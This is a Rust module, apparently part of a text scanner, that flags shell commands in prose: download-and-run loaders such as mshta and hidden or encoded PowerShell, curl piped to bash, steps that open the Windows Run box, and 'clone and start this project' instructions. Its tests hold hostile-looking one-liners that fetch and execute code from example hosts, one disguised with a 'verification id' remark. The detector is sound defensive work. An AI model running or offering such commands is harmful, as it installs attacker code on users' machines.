//! Command lines in prose: what a shell would run, whoever says it and however.
//!
//! A program's name alone is a word like any other ("experience with Docker"); a command is a name with the arguments
//! that make it one.

use aho_corasick::AhoCorasick;
use std::sync::LazyLock;

use crate::text::words;

/// Interpreters and downloaders with an argument that fetches or runs something: `mshta https://…`,
/// `powershell -enc …`, `curl … | sh`.
pub(super) fn shell(folded: &str) -> bool {
    if !folded.contains("://") && !folded.contains(" -") {
        return false;
    }
    const LOADERS: [&str; 16] = [
        "mshta", "powershell", "pwsh", "cmd /c", "cmd.exe", "rundll32", "regsvr32", "certutil", "bitsadmin", "msiexec",
        "wscript", "cscript", "conhost", "osascript", "iex", "iwr",
    ];
    let fetches = folded.contains("http://") || folded.contains("https://") || folded.contains("://");
    let switches = folded
        .split_whitespace()
        .any(|w| w.len() > 2 && w.starts_with('-') && w.chars().nth(1).is_some_and(|c| c.is_ascii_alphabetic()));
    let loader = LOADERS.iter().any(|l| words::has(folded, l)) && (fetches || switches);
    let piped = (words::has(folded, "curl") || words::has(folded, "wget"))
        && (fetches || switches)
        && (folded.contains('|') || folded.contains("bash") || folded.contains("sh "));
    loader || piped
}

/// A command that hides what it does: no window, an encoded text, a page run as a program, a remark behind it that
/// passes for something harmless. Nobody honest needs one.
pub(crate) fn hides(folded: &str) -> bool {
    let program = |name: &str| words::has(folded, name);
    let switch = |names: &[&str]| folded.split_whitespace().any(|w| names.contains(&w));
    shell(folded)
        && (program("mshta")
            || program("conhost") && folded.contains("headless")
            || (program("powershell") || program("pwsh"))
                && (folded.contains("hidden") || switch(&["-enc", "-e", "-ec", "-encodedcommand"]))
            || folded.contains("://") && folded.split_once(" # ").is_some_and(|(_, remark)| !remark.trim().is_empty()))
}

/// The way to the Run box, or to pasting into it: `Windows key + R`, `Win+X`, `Ctrl + V` then Enter.
pub(super) fn run_box(folded: &str) -> bool {
    if !folded.contains('+') && !folded.contains("키") {
        return false;
    }
    let flat: String = folded.chars().filter(|c| !c.is_whitespace()).collect();
    [
        "windowskey+r", "winkey+r", "win+r", "⊞+r", "windows+r", "windowskey+x", "win+x", "윈도우키+r", "윈도우+r",
        "windows키+r", "win키+r", "cmd+space",
    ]
    .iter()
    .any(|k| flat.contains(k) || flat.contains(&k.replace('+', "와")) || flat.contains(&k.replace('+', "과")))
}

/// Fetching a project and starting it: `git clone …`, `npm install`, `docker compose up`, `yarn start`.
pub(super) fn project(folded: &str) -> bool {
    const STARTS: [&str; 24] = [
        "npm install", "npm i", "npm ci", "npm start", "npm run*", "npx", "yarn", "yarn start", "yarn dev",
        "yarn install", "pnpm i", "pnpm install", "pnpm dev", "bun install", "pip install -r", "docker compose up",
        "docker-compose up", "docker run", "make run", "cargo run", "go run", "python main.py", "npm test",
        "poetry install",
    ];
    // A word of every command below; hardly any sentence holds one.
    static TOOLS: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
        AhoCorasick::new([
            "npm", "npx", "yarn", "bun", "pip", "docker", "make", "cargo", "go run", "python", "poetry", "git clone",
        ])
        .ok()
    });
    if !TOOLS.as_ref().is_some_and(|tools| tools.is_match(folded)) {
        return false;
    }
    let clone = words::has(folded, "git clone")
        && (folded.contains("://") || folded.contains("git@") || words::has(folded, "and") || folded.contains(','));
    let starts = STARTS.iter().filter(|s| words::has(folded, s)).count();
    // Job descriptions list tools; a task strings commands together or names a place to clone from.
    clone && (starts > 0 || folded.contains("://"))
        || starts > 1 && (folded.contains("&&") || folded.contains(", then") || folded.contains(" and "))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_are_told_from_tools() {
        assert!(shell("conhost --headless mshta https://x.example/cam # verification id 1"));
        assert!(shell("curl -fssl https://x.example/fix.sh | bash"));
        assert!(!shell("you will write powershell scripts and use curl in our pipelines"));
        assert!(hides("conhost --headless mshta https://x.example/cam # verification id 1"));
        assert!(hides("powershell -w hidden -c iwr https://x.example/a | iex"));
        assert!(!hides("curl -fssl https://sh.rustup.example | sh") && !hides("powershell -file .\\build.ps1"));
        assert!(run_box("1. press the windows key + r") && !run_box("windows and r skills"));
        assert!(project("git clone https://bitbucket.org/x/y, yarn, yarn start, log in"));
        assert!(project("just npm install and npm start, then look at it"));
        assert!(!project("experience with npm, yarn and docker is welcome"));
    }
}
